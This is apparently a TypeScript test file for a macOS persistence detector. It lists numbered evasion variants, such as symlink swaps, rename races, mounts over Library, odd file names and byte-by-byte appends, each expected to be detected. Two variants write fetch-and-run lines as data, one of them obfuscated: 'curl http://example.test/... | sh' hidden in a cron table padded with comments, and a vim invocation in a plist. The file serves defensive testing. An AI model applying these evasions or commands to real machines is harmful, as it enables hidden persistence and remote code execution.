import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Attacker } from './attacker.js';
import type { Evasion } from './evasion.js';

const both = { scan: 'detected', eslogger: 'detected' } as const;
const python = (script: string, ...args: readonly string[]) =>
  execFileSync('python3', ['-c', script, ...args]);

/** Writes on this machine alone: as a program does whose events are not played. */
function quietly(attacker: Attacker, macPath: string, content = attacker.list()): void {
  mkdirSync(path.dirname(attacker.host(macPath)), { recursive: true });
  writeFileSync(attacker.host(macPath), content);
}

const plistMark = ({ plist }: Attacker) => [plist];
const second = ({ label }: Attacker) => `/opt/${label}-second`;
const secondMark = ({ label }: Attacker) => [`${label}-second`];

/** Whether the rule gave an alert that says the attacker's label. */
function isFiredBy(ruleId: string): NonNullable<Evasion['fired']> {
  return ({ alerts }, { label }) =>
    alerts.some((alert) => alert.rule_id === ruleId && JSON.stringify(alert.doc).includes(label));
}

/** Further forms of the numbered evasions of the file step. */
export const variants: readonly Evasion[] = [
  {
    number: 201,
    name: 'a link whose target is made later',
    before: (attacker) =>
      symlinkSync(attacker.host(`/private/tmp/${attacker.label}.later`), attacker.host(attacker.plist)),
    play: (attacker) => quietly(attacker, `/private/tmp/${attacker.label}.later`),
    marks: plistMark,
    expected: both,
  },
  {
    number: 202,
    name: 'a link to a link that is turned elsewhere',
    before(attacker) {
      quietly(attacker, `/private/tmp/${attacker.label}.good`);
      quietly(attacker, `/private/tmp/${attacker.label}.evil`, attacker.list([second(attacker)]));
      symlinkSync(
        attacker.host(`/private/tmp/${attacker.label}.good`),
        attacker.host(`/private/tmp/${attacker.label}.between`),
      );
      symlinkSync(attacker.host(`/private/tmp/${attacker.label}.between`), attacker.host(attacker.plist));
    },
    play(attacker) {
      attacker.remove(`/private/tmp/${attacker.label}.between`);
      symlinkSync(
        attacker.host(`/private/tmp/${attacker.label}.evil`),
        attacker.host(`/private/tmp/${attacker.label}.between`),
      );
    },
    marks: secondMark,
    expected: both,
  },
  {
    number: 203,
    name: 'the folder was a link before; written where it leads',
    before(attacker) {
      attacker.remove(attacker.agents);
      mkdirSync(attacker.host(`/private/tmp/${attacker.label}.folder`), { recursive: true });
      symlinkSync(attacker.host(`/private/tmp/${attacker.label}.folder`), attacker.host(attacker.agents));
    },
    play: (attacker) => quietly(attacker, `/private/tmp/${attacker.label}.folder/${attacker.label}.plist`),
    marks: plistMark,
    expected: both,
  },
  {
    number: 204,
    name: 'Library itself is exchanged for a link',
    play(attacker) {
      quietly(attacker, `/private/tmp/${attacker.label}.library/LaunchAgents/${attacker.label}.plist`);
      attacker.rename(`${attacker.home}/Library`, `${attacker.home}/Library.old`);
      symlinkSync(
        attacker.host(`/private/tmp/${attacker.label}.library`),
        attacker.host(`${attacker.home}/Library`),
      );
    },
    marks: plistMark,
    expected: both,
  },
  {
    number: 205,
    name: 'a whole home is moved in',
    play(attacker) {
      quietly(attacker, `/private/tmp/${attacker.label}.home/Library/LaunchAgents/${attacker.label}.plist`);
      attacker.rename(`/private/tmp/${attacker.label}.home`, `/Users/new-${attacker.label}`);
    },
    marks: ({ label }) => [`/Users/new-${label}/Library/LaunchAgents/${label}.plist`],
    expected: both,
  },
  {
    number: 206,
    name: 'two names are exchanged in one call',
    before(attacker) {
      quietly(attacker, attacker.plist);
      quietly(attacker, `/private/tmp/${attacker.label}.evil`, attacker.list([second(attacker)]));
    },
    play: (attacker) =>
      void python(
        'import ctypes,sys; c=ctypes.CDLL(None); print(c.renameat2(-100,sys.argv[1].encode(),-100,sys.argv[2].encode(),2))',
        attacker.host(`/private/tmp/${attacker.label}.evil`),
        attacker.host(attacker.plist),
      ),
    marks: secondMark,
    expected: both,
  },
  {
    number: 207,
    name: 'the program of an item is swapped while no agent runs',
    before(attacker) {
      quietly(attacker, `/usr/local/${attacker.label}/run`, 'good');
      quietly(attacker, attacker.plist, attacker.list([`/usr/local/${attacker.label}/run`]));
    },
    whileDown: (attacker) => quietly(attacker, `/usr/local/${attacker.label}/run`, 'evil'),
    expected: both,
  },
  {
    number: 209,
    name: 'cut to nothing and appended to, byte by byte',
    before: (attacker) => quietly(attacker, attacker.plist),
    play(attacker) {
      truncateSync(attacker.host(attacker.plist), 0);
      for (const one of attacker.list([second(attacker)])) appendFileSync(attacker.host(attacker.plist), one);
    },
    marks: secondMark,
    expected: both,
  },
  {
    number: 210,
    name: 'the folder and all on the way in another case',
    play: (attacker) => quietly(attacker, `/users/U210/library/LAUNCHAGENTS/${attacker.label}.plist`),
    expected: both,
  },
  {
    number: 211,
    name: 'unpacked by tar, copied by rsync, install and dd',
    play(attacker) {
      const source = `/private/tmp/${attacker.label}`;
      for (const way of ['tar', 'install', 'dd', 'cp'])
        quietly(attacker, `${source}/${attacker.label}.${way}.plist`);
      const from = attacker.host(source);
      const to = attacker.host(attacker.agents);
      const name = (way: string) => `${attacker.label}.${way}.plist`;
      spawnSync('sh', ['-c', `tar -C '${from}' -cf - ${name('tar')} | tar -C '${to}' -xf -`]);
      spawnSync('install', ['-m', '644', `${from}/${name('install')}`, to]);
      spawnSync('dd', [`if=${from}/${name('dd')}`, `of=${to}/${name('dd')}`, 'bs=64']);
      spawnSync('cp', ['-p', `${from}/${name('cp')}`, to]);
    },
    marks: ({ label }) => ['tar', 'install', 'dd', 'cp'].map((way) => `${label}.${way}.plist`),
    expected: both,
  },
  {
    number: 212,
    name: 'a name with spaces, quotes and a line break',
    play: (attacker) => quietly(attacker, `${attacker.agents}/ ${attacker.label}'"\n.plist`),
    expected: both,
  },
  {
    number: 213,
    name: 'a volume is mounted over Library',
    play(attacker) {
      const folder = attacker.host(`${attacker.home}/Library`);
      spawnSync('mount', ['-t', 'tmpfs', 'none', folder]);
      quietly(attacker, attacker.plist);
    },
    after: (attacker) => spawnSync('umount', [attacker.host(`${attacker.home}/Library`)]),
    marks: plistMark,
    expected: both,
  },
  {
    number: 214,
    name: 'a folder is bound over the folder',
    play(attacker) {
      quietly(attacker, `/private/tmp/${attacker.label}/${attacker.label}.plist`);
      const bound = spawnSync('mount', [
        '--bind',
        attacker.host(`/private/tmp/${attacker.label}`),
        attacker.host(attacker.agents),
      ]);
      if (bound.status !== 0) quietly(attacker, attacker.plist);
    },
    after: (attacker) => spawnSync('umount', [attacker.host(attacker.agents)]),
    marks: plistMark,
    expected: both,
  },
  {
    number: 215,
    name: 'only its extended attributes and its owner change',
    before(attacker) {
      quietly(attacker, `/Library/LaunchDaemons/${attacker.label}.plist`);
      attacker.chown(`/Library/LaunchDaemons/${attacker.label}.plist`, 501, 20);
    },
    play: (attacker) => attacker.chown(`/Library/LaunchDaemons/${attacker.label}.plist`, 0, 0),
    expected: both,
  },
  {
    number: 216,
    name: 'the plug-in folder is a link to one elsewhere',
    play(attacker) {
      const elsewhere = `/private/tmp/${attacker.label}`;
      quietly(attacker, `${elsewhere}/${attacker.label}.dsplug/Contents/MacOS/plugin`);
      mkdirSync(attacker.host('/Library/DirectoryServices'), { recursive: true });
      symlinkSync(attacker.host(elsewhere), attacker.host('/Library/DirectoryServices/PlugIns'));
    },
    expected: both,
  },
  {
    number: 217,
    name: 'a table of cron with a megabyte of comments before and behind the line',
    play(attacker) {
      const comments = '# nothing to see here\n'.repeat(50_000);
      const line = `* * * * * curl http://example.test/${attacker.label} | sh\n`;
      quietly(attacker, `/private/var/at/tabs/${attacker.label}`, `${comments}${line}${comments}`);
    },
    fired: isFiredBy('5b1f6f0e-7a43-4d8e-9d0c-2f6f1e0c7b55'),
    expected: both,
  },
  {
    number: 218,
    name: 'the list runs an editor, and the editor what fetches a script',
    play: (attacker) =>
      quietly(
        attacker,
        attacker.plist,
        attacker.list(['/usr/bin/vim', '-c', ":!cu'r'l http://example.test/a | sh"]),
      ),
    fired: isFiredBy('3f301cee-b36c-4b3d-ae1e-d3096e113700'),
    expected: both,
  },
  {
    number: 219,
    name: 'a load of a list that is not there',
    play: (attacker) =>
      attacker.launchctl(['load', attacker.host(`/Library/LaunchDaemons/${attacker.label}.none.plist`)]),
    fired: isFiredBy('c2a1d9f4-68b3-4e0e-9a57-3d51c0b2e7a9'),
    expected: both,
  },
];
